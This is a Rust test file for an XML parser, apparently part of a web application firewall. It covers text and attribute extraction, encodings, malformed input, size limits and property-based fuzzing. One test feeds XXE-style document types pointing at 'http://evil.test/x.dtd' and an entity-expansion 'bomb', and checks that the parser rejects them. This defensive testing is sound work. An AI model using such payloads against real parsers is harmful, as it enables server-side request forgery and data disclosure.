//! Table tests by behaviour, checked against libmodsecurity 3.0.9 with libxml2
//! 2.9.14, but for the rows that say "unlike".

use proptest::prelude::*;

use super::*;

fn parsed(body: &[u8]) -> Result<(String, Vec<String>), Fault> {
    let text = |bytes: &Vec<u8>| String::from_utf8_lossy(bytes).into_owned();
    match parse(body, &Limits::default()) {
        Ok(read) => Ok((text(&read.text), read.attributes.iter().map(text).collect())),
        Err(error) => Err(error.fault),
    }
}

#[test]
fn documents_by_behaviour() {
    for (behaviour, body, text, attributes) in [
        ("text in order", "<a>1<b>2</b>3</a>", "123", vec![]),
        ("attributes in order", "<a x='1'><b y=\"2\" z=''/></a>", "", vec!["1", "2", ""]),
        ("namespaces are no attributes", "<a xmlns='u:1' xmlns:b='u:2' b:c='3'/>", "", vec!["3"]),
        (
            "what only looks like a namespace is one",
            "<a xmlnsb='1' xmlns:='2' xmlns:-b='3'/>",
            "",
            vec!["1", "2", "3"],
        ),
        ("built-in references", "<a b='&lt;&#65;'>&amp;&#x3c;&apos;</a>", "&<'", vec!["<A"]),
        ("a data section as it is", "<a><![CDATA[<b>&amp;\r\n]]></a>", "<b>&amp;\r\n", vec![]),
        (
            "line ends in text and values",
            "<a b='1\r\n2\t3'>1\r\n2\r3</a>",
            "1\n2\n3",
            vec!["1 2 3"],
        ),
        (
            "comments and instructions say nothing",
            "<?p x?><!-- y --><a>1<!--2-->3<?p 4?></a><!-- z -->",
            "13",
            vec![],
        ),
        (
            "a declaration",
            "<?xml version='1.0' encoding='utf-8' standalone='no' ?>\n<a/>\n",
            "",
            vec![],
        ),
        ("a document type that is a name", "<!DOCTYPE a ><a>1</a>", "1", vec![]),
        ("names beyond ASCII", "<\u{e4}\u{b7} \u{3b1}:\u{3b2}='1'/>", "", vec!["1"]),
        ("a byte order mark", "\u{feff}<a>1</a>", "1", vec![]),
    ] {
        let attributes = attributes.into_iter().map(String::from).collect();
        assert_eq!(parsed(body.as_bytes()), Ok((text.into(), attributes)), "{behaviour}");
    }
}

#[test]
fn other_encodings_are_read_as_utf8() {
    let wide = |text: &str, bytes: fn(u16) -> [u8; 2]| -> Vec<u8> {
        text.encode_utf16().flat_map(bytes).collect()
    };
    let text = "<a>\u{20ac}&lt;\u{1f600}</a>";
    for (behaviour, body) in [
        ("little endian", wide(&format!("\u{feff}{text}"), u16::to_le_bytes)),
        ("big endian", wide(&format!("\u{feff}{text}"), u16::to_be_bytes)),
        (
            "by its declaration",
            wide(&format!("<?xml version='1.0' encoding='UTF-16'?>{text}"), u16::to_be_bytes),
        ),
    ] {
        assert_eq!(parsed(&body), Ok(("\u{20ac}<\u{1f600}".into(), vec![])), "{behaviour}");
    }
    let declared = |name: &str, byte: u8| {
        [format!("<?xml version='1.0' encoding='{name}'?><a>").as_bytes(), &[byte], b"</a>"]
            .concat()
    };
    for (name, byte, expected) in [
        ("iso-8859-1", 0xe4, Ok("\u{e4}")),
        ("Windows-1252", 0x80, Ok("\u{20ac}")),
        ("utf-8", 0xe4, Err(Fault::Character)),
        ("us-ascii", 0xe4, Err(Fault::Encoding)),
        ("utf-7", b'1', Err(Fault::Encoding)),
        ("utf-16", b'1', Err(Fault::Encoding)),
        ("ebcdic", b'1', Err(Fault::Encoding)),
    ] {
        let expected = expected.map(|text| (text.to_string(), vec![]));
        assert_eq!(parsed(&declared(name, byte)), expected, "{name}");
    }
    let contradiction = [b"\xef\xbb\xbf", declared("iso-8859-1", b'1').as_slice()].concat();
    assert_eq!(parsed(&contradiction), Err(Fault::Encoding));
}

#[test]
fn what_is_no_xml() {
    for (body, expected) in [
        ("", Fault::Incomplete),
        ("<a", Fault::Incomplete),
        ("<a>", Fault::Incomplete),
        ("<a></b>", Fault::Malformed("mismatched end tag")),
        ("<a/>1", Fault::Malformed("content after the last element")),
        ("<a/><b/>", Fault::Malformed("content after the last element")),
        ("1<a/>", Fault::Malformed("text before the first element")),
        ("<a b=1/>", Fault::Malformed("quotes")),
        ("<a b/>", Fault::Malformed("equals sign")),
        ("<a b='1'c='2'/>", Fault::Malformed("start tag")),
        ("<a b='1' b='2'/>", Fault::Malformed("attribute twice")),
        ("<a b='<'/>", Fault::Malformed("`<` in an attribute")),
        ("<1/>", Fault::Malformed("name")),
        ("<a>]]></a>", Fault::Malformed("end of a data section in text")),
        ("<a><!-- -- --></a>", Fault::Malformed("comment")),
        ("<a><?xml version='1.0'?></a>", Fault::Malformed("declaration inside of the document")),
        (" <?xml version='1.0'?><a/>", Fault::Malformed("declaration inside of the document")),
        ("<?xml version='2.0'?><a/>", Fault::Malformed("declaration")),
        ("<?xml encoding='utf-8'?><a/>", Fault::Malformed("declaration")),
        ("<a>&#0;</a>", Fault::Malformed("character reference")),
        ("<a>&#xd800;</a>", Fault::Malformed("character reference")),
        ("<a>&#99999999999;</a>", Fault::Malformed("character reference")),
        ("<a>& b</a>", Fault::Malformed("name")),
        ("<a>\u{1}</a>", Fault::Character),
        ("<a>\0</a>", Fault::Character),
        ("<a/>\0", Fault::Character),
        ("<a>\u{ffff}</a>", Fault::Character),
    ] {
        assert_eq!(parsed(body.as_bytes()), Err(expected), "{body}");
    }
}

#[test]
fn entities_never_expand_and_what_is_around_them_is_read() {
    let bomb =
        "<!DOCTYPE a [<!ENTITY b 'bbbb'><!ENTITY c '&b;&b;&b;&b;'>]><a d='&c;1'>&c;2<e/></a>";
    let error = parse(bomb.as_bytes(), &Limits::default()).unwrap_err();
    assert_eq!(error.fault, Fault::DocumentType);
    assert_eq!(error.read, Xml { text: b"2".to_vec(), attributes: vec![b"1".to_vec()] });
    assert_eq!(parsed(b"<a>1&xxe;2</a>"), Err(Fault::Entity));
}

/// Before, they passed: what is loaded tells its server, and no word of it is in the document.
#[test]
fn a_document_type_that_says_more_than_a_name_is_a_fault() {
    for kind in [
        "SYSTEM 'http://evil.test/x.dtd'",
        "PUBLIC \"-//x\" 'http://evil.test/x.dtd' ",
        "[<!ENTITY % b SYSTEM 'http://evil.test/x.dtd'> %b;]",
        "[<!ENTITY b '>'><!-- ] --> %c;]",
        "[<!ATTLIST a b CDATA 'x'>]",
        "[]",
    ] {
        let body = format!("<!DOCTYPE a {kind}><a>1</a>");
        let error = parse(body.as_bytes(), &Limits::default()).unwrap_err();
        assert_eq!((error.fault, &*error.read.text), (Fault::DocumentType, &b"1"[..]), "{kind}");
        // Also where a limit ends the reading.
        let body = format!("<!DOCTYPE a {kind}><a><b/></a>");
        let shallow = Limits { depth: 1, ..Limits::default() };
        let fault = parse(body.as_bytes(), &shallow).unwrap_err().fault;
        assert_eq!(fault, Fault::DocumentType, "{kind}");
    }
    for (body, fault) in [
        ("<!DOCTYPE a", Fault::Incomplete),
        ("<!DOCTYPE a [", Fault::Incomplete),
        ("<!DOCTYPE a ]><a/>", Fault::Malformed("document type")),
    ] {
        assert_eq!(parsed(body.as_bytes()), Err(fault), "{body}");
    }
}

#[test]
fn what_was_read_before_a_fault_is_kept() {
    for body in [
        &b"<a b='1'>2</c>"[..],
        b"<a b='1'>2",
        b"<a b='1'><![CDATA[2",
        b"<a b='1'>2\0</a>",
        b"<a b='1'>2\xff</a>",
    ] {
        let error = parse(body, &Limits::default()).unwrap_err();
        let read = Xml { text: b"2".to_vec(), attributes: vec![b"1".to_vec()] };
        assert_eq!(error.read, read, "{}", body.escape_ascii());
        assert!(!error.is_limit());
    }
}

#[test]
fn limits_are_errors_of_their_own() {
    let limits = Limits { arguments: 2, depth: 3, bytes: 100, ..Limits::default() };
    for (behaviour, body, expected) in [
        ("at the depth", "<a><a><a/></a></a>".into(), None),
        ("an empty element counts", "<a><a><a><a/></a></a></a>".into(), Some(Fault::Depth)),
        ("as many attributes", "<a b='1' c='2'/>".into(), None),
        ("too many attributes", "<a b='1'><a b='1' c='2'/></a>".into(), Some(Fault::Attributes)),
        ("too long", " ".repeat(101), Some(Fault::Bytes)),
    ] {
        let fault = parse(body.as_bytes(), &limits).err().map(|error| error.fault);
        assert_eq!(fault, expected, "{behaviour}");
    }
}

fn piece() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        8 => prop::sample::select(vec![
            "<a>", "</a>", "<a b='", "'", "/>", "<![CDATA[", "]]>", "<!--", "-->", "&lt;", "&#", ";", "<?p", "?>", "<!DOCTYPE a [",
            "]>", "text", " ", "\"", "&x;", "<?xml version='1.0'?>", "\u{feff}", "\u{e4}",
        ])
        .prop_map(|text| text.as_bytes().to_vec()),
        1 => any::<u8>().prop_map(|byte| vec![byte]),
    ]
}

proptest! {
    #[test]
    fn any_bytes_pass_and_never_grow(pieces in prop::collection::vec(piece(), 0..40)) {
        let body = pieces.concat();
        let read = parse(&body, &Limits::default()).unwrap_or_else(|error| error.read);
        let bytes: usize = read.text.len() + read.attributes.iter().map(Vec::len).sum::<usize>();
        prop_assert!(bytes <= 2 * body.len());
    }

    #[test]
    fn wide_bytes_pass(units in prop::collection::vec(any::<u16>(), 0..60)) {
        let body: Vec<u8> = units.iter().flat_map(|unit| unit.to_le_bytes()).collect();
        let _ = parse(&[b"\xff\xfe", body.as_slice()].concat(), &Limits::default());
    }
}
